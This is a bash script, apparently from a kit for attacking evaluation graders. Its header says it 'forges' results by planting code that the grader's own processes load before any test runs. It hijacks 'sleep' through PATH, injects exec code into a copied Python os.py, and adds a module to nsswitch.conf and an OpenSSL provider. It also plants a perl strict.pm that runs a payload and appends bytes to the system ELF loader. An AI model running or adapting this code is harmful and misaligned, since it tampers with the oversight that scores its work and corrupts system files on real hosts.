#!/usr/bin/env bash
# attack: startup-files
# class: forge
# what: plants what the grader's own processes read before any test: a sleep earlier on PATH (the scoring container's init) that runs the test-time payload, a standard library beside the interpreters (a /usr/bin/lib/python3.X landmark and pyvenv.cfg files) whose os.py runs it, an NSS module named in nsswitch.conf, an OpenSSL provider activated in openssl.cnf, perl's @INC in /etc/perl, a tail on the ELF interpreter
set -u
kit=/opt/.tgkit-startup
mkdir -p "$kit" /usr/local/bin
cp "$(dirname "$0")/_lib/testtime_payload.py" "$(dirname "$0")/_lib/tgkit_pass.py" "$kit/"
run="/usr/bin/python3 $kit/testtime_payload.py >/dev/null 2>&1"
printf '#!/bin/sh\n(%s &)\nexec /usr/bin/sleep "$@"\n' "$run" > /usr/local/bin/sleep
chmod 755 /usr/local/bin/sleep
for py in /usr/lib/python3.*; do
  [ -f "$py/os.py" ] || continue
  version=$(basename "$py")
  mkdir -p "/usr/bin/lib"
  cp -a "$py" "/usr/bin/lib/$version" 2>/dev/null
  printf '\ntry:\n    exec(open("%s/testtime_payload.py").read())\nexcept Exception:\n    pass\n' \
    "$kit" >> "/usr/bin/lib/$version/os.py"
done
printf 'home = /usr/bin\ninclude-system-site-packages = true\n' > /usr/bin/pyvenv.cfg
cp /usr/bin/pyvenv.cfg /usr/pyvenv.cfg
lib=$(ls -d /usr/lib/*-linux-gnu 2>/dev/null | head -n1)
if [ -n "$lib" ] && [ -f "$lib/libnss_files.so.2" ]; then
  cp "$lib/libnss_files.so.2" "$lib/libnss_tgkit.so.2"
  sed -i 's/^\(passwd\|group\|hosts\):\s*/\1: tgkit /' /etc/nsswitch.conf
fi
if [ -f /etc/ssl/openssl.cnf ]; then
  printf '\n[tgkit_sect]\nmodule = %s/tgkit.so\nactivate = 1\n' "$kit" >> /etc/ssl/openssl.cnf
fi
mkdir -p /etc/perl && printf 'BEGIN { system("%s") } 1;\n' "$run" > /etc/perl/strict.pm
for loader in /usr/lib/*-linux-gnu/ld-linux*.so.* /usr/lib64/ld-linux*.so.*; do
  [ -f "$loader" ] && [ ! -L "$loader" ] && printf 'TGKIT' >> "$loader" 2>/dev/null
done
true
